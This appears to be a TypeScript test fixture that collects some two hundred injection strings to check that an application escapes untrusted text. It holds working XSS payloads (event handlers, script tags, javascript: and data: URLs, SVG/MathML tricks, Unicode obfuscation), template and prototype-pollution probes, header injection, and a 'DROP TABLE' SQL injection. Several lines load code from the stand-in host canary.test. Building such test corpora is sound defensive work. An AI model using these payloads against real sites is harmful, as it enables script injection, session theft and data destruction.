/**
 * Two hundred texts that are markup, code or an address where somebody forgets that they are text. Whatever comes to run
 * calls `pwn`, opens an alert or asks `canary.test` for something.
 */

/** Elements that run something by themselves, or at the first touch. */
const ELEMENTS = [
  '<svg onload=pwn()>',
  '<img src=x onerror=pwn()>',
  '<body onload=alert(1)>',
  '<video src=x onerror=pwn()>',
  '<audio src onloadstart=pwn()>',
  '<video><source onerror=pwn()></video>',
  '<details open ontoggle=pwn()>',
  '<input autofocus onfocus=pwn()>',
  '<select autofocus onfocus=pwn()>',
  '<textarea autofocus onfocus=pwn()>',
  '<marquee onstart=pwn()>x</marquee>',
  '<object data=x onerror=pwn()>',
  '<iframe onload=pwn()>',
  '<style onload=pwn()>*{}</style>',
  '<p onmouseover=pwn()>over</p>',
  '<p popover id=p onbeforetoggle=pwn()></p><button popovertarget=p>x',
  '<div style=animation-name:x onanimationstart=pwn()>',
  '<b contenteditable autofocus onfocus=pwn()>',
];

/** What ends the place that a text stands in. */
const ENDS = [
  '">',
  "'>",
  '`>',
  '-->',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</div></main>',
  ']]>',
];
const BEHIND_ENDS = ['<svg onload=pwn()>', '<script>pwn()</script>', '<img src=//canary.test/a>'];

/** Quotes that end an attribute, and attributes to put behind them. */
const QUOTES = ['"', "'", '`', ' '];
const ATTRIBUTES = [
  'onclick=pwn() ',
  'autofocus onfocus=pwn() ',
  'onpointerenter=alert(1) x=',
  'style=background:url(//canary.test/a) ',
];

const SCRIPTS = [
  '<script>pwn()</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//canary.test/a></script>',
  '<script/x>pwn()</script/x>',
  '<script\n>pwn()</script\n>',
  '<<script>pwn()//<</script>',
  '<scr<script>ipt>pwn()</scr</script>ipt>',
  '<script type=module>import "//canary.test/a"</script>',
  '<template><script>pwn()</script></template>',
  '%3Cscript%3Epwn()%3C/script%3E',
  '&lt;script&gt;pwn()&lt;/script&gt;',
  '&#60;script&#62;pwn()&#60;/script&#62;',
  '\\u003cscript\\u003epwn()\\u003c/script\\u003e',
  '\\x3cscript\\x3epwn()\\x3c/script\\x3e',
  '+ADw-script+AD4-pwn()+ADw-/script+AD4-',
  '<xml><i><b><![CDATA[<script>pwn()</script>]]>',
];

const FETCHES = [
  '<img src=//canary.test/a>',
  '<img srcset="//canary.test/a 2x">',
  '<video poster=//canary.test/a>',
  '<link rel=stylesheet href=//canary.test/a>',
  '<link rel=prefetch href=//canary.test/a>',
  '<base href=//canary.test/>',
  '<meta http-equiv=refresh content="0;url=//canary.test/">',
  "<style>@import'//canary.test/a'</style>",
  '<p style=background:url(//canary.test/a)>x</p>',
  '<iframe srcdoc="<script>parent.pwn()</script>">',
  '<embed src=//canary.test/a>',
  '<object data=javascript:pwn()>',
  '<form action=javascript:pwn()><button>x</button></form>',
  '<button formaction=javascript:pwn()>x</button>',
  '<a href=javascript:pwn()>x</a>',
  '<a href=//canary.test/a ping=//canary.test/b>x</a>',
];

const ADDRESSES = [
  'javascript:pwn()',
  'JaVaScRiPt:alert(1)',
  'java\tscript:pwn()',
  'java\nscript:pwn()',
  ' javascript:pwn()',
  '\u0001javascript:pwn()',
  'javascript&colon;pwn()',
  'javascript://%0apwn()',
  'javascript:"<svg/onload=pwn()>"',
  'data:text/html,<script>pwn()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=pwn()>',
  'vbscript:pwn()',
  'view-source:javascript:pwn()',
  'blob:https://canary.test/a',
  '//canary.test/a',
  '\\\\canary.test\\a',
  'https:canary.test',
  'https://x:pwn()@canary.test/',
  '../../../../canary.test',
  '..%2f..%2fapi%2fsession',
  '#i=<svg onload=pwn()>',
  '?after=<svg onload=pwn()>',
  'jaVasCript:/*-/*`/*\'/*"/**/(pwn())//</title></style></textarea></script>--><svg/onload=pwn()>',
];

const CODE = [
  '{{constructor.constructor("pwn()")()}}',
  '{{7*7}}',
  '\x24{pwn()}',
  '#{pwn()}',
  '<%= pwn() %>',
  '{%print(7*7)%}',
  '[[pwn()]]',
  '\x24{{pwn()}}',
  '@(pwn())',
  '`\x24{pwn()}`',
  "'-pwn()-'",
  '"-pwn()-"',
  "';pwn()//",
  '";pwn();//',
  '\\";pwn()//',
  ')}};pwn()//',
  '\u2028pwn()\u2028//',
  '__proto__',
  'constructor',
  'toString',
  '{"__html":"<svg onload=pwn()>"}',
  '{"type":"script","props":{"children":"pwn()"}}',
  '%s %n %d %o %c',
  'x\r\nSet-Cookie: a=b',
  'x\r\n\r\n<script>pwn()</script>',
  "' OR 1=1; DROP TABLE chat; --",
];

const DRAWINGS = [
  '<svg><script>pwn()</script></svg>',
  '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
  '<svg><set onend=pwn() attributeName=x dur=1ms>',
  '<svg><a xlink:href=javascript:pwn()><text y=9>x</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwn()>#x">',
  '<svg><image href=//canary.test/a>',
  '<svg><foreignObject><iframe onload=pwn()>',
  '<svg><style>*{background:url(//canary.test/a)}</style>',
  '<svg><desc><![CDATA[</desc><script>pwn()</script>]]></svg>',
  '<math href=javascript:pwn()>x</math>',
  '<math><maction actiontype=statusline xlink:href=javascript:pwn()>x',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>',
  '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<!--<img src="--><img src=x onerror=pwn()//">',
];

/** Signs that are not what they look like, or that become others when they are tidied. */
const SIGNS = [
  '\u202e<script>pwn()</script>',
  '\u2066<svg onload=pwn()>\u2069',
  '<scr\u200bipt>pwn()</scr\u200bipt>',
  '<img src=x o\u200dnerror=pwn()>',
  '<\u00adsvg onload=pwn()>',
  '<s\u0000vg onload=pwn()>',
  '\ufeff<svg onload=pwn()>',
  '\ud800<svg onload=pwn()>\udc00',
  '<svg\u2028onload=pwn()>',
  '<svg\u00a0onload=pwn()>',
  '<svg\u000bonload=pwn()>',
  '<\u0338script>pwn()<\u0338/script>',
  '\uff1cscript\uff1epwn()\uff1c/script\uff1e',
  '\ufe64svg onload=pwn()\ufe65',
  '\u2039script\u203apwn()',
  '<\u017fcript>pwn()</\u017fcript>',
  `<svg ${'\u0301'.repeat(40)}onload=pwn()>`,
  '<svg onload=\u1d56\u02b7\u207f()>',
  '\u05d0<b>\u05d1</b>\u05d2 26',
  '\u{1f468}\u200d<svg onload=pwn()>\u200d\u{1f469}',
  '\u061c\u200f<b>x</b>\u200e',
  '\u{e003c}\u{e0062}<b>x</b>',
];

/** Short enough for a name. */
const SHORT = [
  '<b>x</b>',
  '<i>',
  '<!--',
  '-->',
  '</div>',
  '<p id=app>',
  '<q oncut=pwn()>',
  '<a href=//x.test>x',
  '<img src=/x>',
  '&lt;b&gt;',
  '&#60;b&#62;',
  '&amp;lt;',
  '"><b>',
  "'><b>",
  '<hr/onclick=pwn()>',
  '<script src=//x.co>',
];

/** All of them, in an order that is always the same. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...SHORT,
  ...ELEMENTS,
  ...ENDS.flatMap((end) => BEHIND_ENDS.map((behind) => end + behind)),
  ...QUOTES.flatMap((quote) => ATTRIBUTES.map((attribute) => `x${quote}${attribute}${quote}`)),
  ...SCRIPTS,
  ...FETCHES,
  ...ADDRESSES,
  ...CODE,
  ...DRAWINGS,
  ...SIGNS,
];
